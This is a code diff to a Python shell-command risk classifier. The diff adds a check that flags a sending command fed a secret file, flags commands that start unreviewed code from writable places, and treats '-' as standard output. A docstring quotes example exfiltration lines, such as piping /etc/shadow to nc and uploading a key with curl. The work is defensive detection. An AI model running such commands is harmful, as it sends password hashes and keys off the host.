@@ -1,5 +1,9 @@
 """Rules over the IR: every simple command, substitution, redirect and nested script gives findings; the
 tier of the whole is the highest finding. The classifier never runs anything.
+
+Longer than most modules on purpose: `_Analysis` is one recursion (script -> command -> selection -> nested
+script) whose steps share its findings, policy and working directory; the analyzers (analyzers/), grammars
+(grammar.py), rule loading (loader.py) and the verb lexicon (lexicon.py) live outside it.
 """
 
 from __future__ import annotations
@@ -125,7 +129,7 @@ class _Analysis:
     # Entry and result -----------------------------------------------------------------------------
 
     def run(self, command: str) -> None:
-        if len(command.encode("utf-8", "surrogatepass")) > MAX_INPUT_BYTES:
+        if len(command) * 4 > MAX_INPUT_BYTES and len(command.encode("utf-8", "surrogatepass")) > MAX_INPUT_BYTES:
             self.add(Tier.DESTRUCTIVE, f"the command is larger than {MAX_INPUT_BYTES // 1024} KiB and was not analysed")
             return
         if not command.strip():
@@ -154,14 +158,16 @@ class _Analysis:
         self.findings.append(Finding(tier, reason, targets, () if self.away else capture, consequence))
 
     def result(self, command: str) -> Classification:
-        if not self.findings:
+        findings = self.findings
+        if not findings:
             return Classification(command=command, tier=Tier.READ, reasons=("only reads",))
-        tier = max(f.tier for f in self.findings)
-        top = [f for f in self.findings if f.tier == tier]
-        reasons = tuple(dict.fromkeys(shown(f.reason) for f in top if f.reason))
+        tier = max([f.tier for f in findings])
         if tier == Tier.READ:
+            reasons = tuple(dict.fromkeys([shown(f.reason) for f in findings if f.reason]))
             return Classification(command, tier, reasons or ("only reads",), lowered_by=tuple(self.lowered))
-        changing = [f for f in self.findings if f.tier > Tier.READ]
+        top = [f for f in findings if f.tier == tier]
+        reasons = tuple(dict.fromkeys([shown(f.reason) for f in top if f.reason]))
+        changing = [f for f in findings if f.tier > Tier.READ]
         targets = tuple(dict.fromkeys(t for f in changing for t in f.targets))
         capture = tuple(dict.fromkeys(c for f in changing for c in f.capture))
         footprint = tuple(
@@ -264,10 +270,26 @@ class _Analysis:
         here = f" {context}{where}" if context else where
         for name, value in cmd.assignments:
             self.assignment(name, value, cmd, here)
+        mark = len(self.findings)
         for redirect in cmd.redirects:
             self.redirect(redirect, cmd, here)
         if cmd.argv:
             self.argv(cmd.argv, cmd, script, depth, here)
+            if cmd.stdin is not None and any(f.tier > Tier.READ for f in self.findings[mark:]):
+                self.secret_input(cmd, here)
+
+    def secret_input(self, cmd: SimpleCommand, where: str) -> None:
+        """A command that sends or writes, fed a secret file (`nc h 443 < /etc/shadow`, `cat key | curl -T -`)."""
+        stdin = cmd.stdin
+        assert stdin is not None
+        words = [stdin.source] if stdin.kind == "file" else stdin.source.split()
+        secret = next((w for w in words if self.policy.is_secret(w.strip("'\"")) and w != "-"), None)
+        if secret is not None:
+            self.add(
+                Tier.DESTRUCTIVE,
+                f"`{cmd.argv[0].text}` is fed the secret file {secret}, and it does not only read{where}",
+                consequence=f"The contents of {secret} may leave this host; they cannot be called back.",
+            )
 
     # Redirects ------------------------------------------------------------------------------------
 
@@ -374,7 +396,7 @@ class _Analysis:
         args = argv[1:]
         if len(args) == 1 and args[0].text in ("--help", "--version"):
             return
-        selections = self.rules.resolve(base, args)
+        selections = self.rules.resolve(base, args, rule)
         shipped = self.rules.base
         users = [s.rule for s in selections if not s.rule.builtin]
         if not users or shipped is None or shipped.lookup(base) is None:
@@ -457,6 +479,8 @@ class _Analysis:
                     f"({_join(proof.extra_operands)}){where}",
                 )
         for option, path in proof.written:
+            if path == "-":
+                continue  # `--trace-ascii -`, `-o -`: standard output
             word = next((w for w in args if w.text == path or w.text.endswith("=" + path)), Word(path))
             how = f"`{shown}` writes to its {option}" if option.startswith("operand") else f"`{shown} {option}` writes"
             self.writes(Word(path, word.dynamic), *cwd, how, where)
@@ -470,6 +494,13 @@ class _Analysis:
                 )
             elif strict:
                 self.add(Tier.WRITE, f"{what} {path}, code or configuration hitl cannot see{where}")
+        for path in proof.started:
+            if self.policy.is_untrusted(join(cwd[0], path)):
+                self.add(
+                    Tier.DESTRUCTIVE,
+                    f"`{shown}` may start {path}, from a place anyone can write to: code nobody has reviewed{where}",
+                    consequence=f"Runs {path}, which nobody has reviewed.",
+                )
         for option, value in proof.run:
             self.add(
                 Tier.DESTRUCTIVE,
@@ -586,9 +617,13 @@ class _Analysis:
             if effect.kind == "path":
                 return (self.path_target(effect.target_value, *cwd),)
             return (Target(effect.kind, effect.target_value),)
-        if not words and effect.targets.startswith("option:") and effect.kind != "path":
-            return (Target(effect.kind, effect.target_value),)
+        if not words and effect.targets.startswith("option:"):
+            if effect.kind != "path":
+                return (Target(effect.kind, effect.target_value),)
+            if effect.target_value:  # `7z x a.7z` without -o extracts into the working directory
+                return (self.path_target(effect.target_value, *cwd),)
         if effect.kind in ("path", "sqlite"):
+            words = [w for w in words if w.text != "-"]  # `-O -`, `-o -`: standard output, not a file
             return tuple(self.path_target(w.text, *cwd, kind=effect.kind) for w in words)
         return tuple(Target(effect.kind, w.text) for w in words)
 
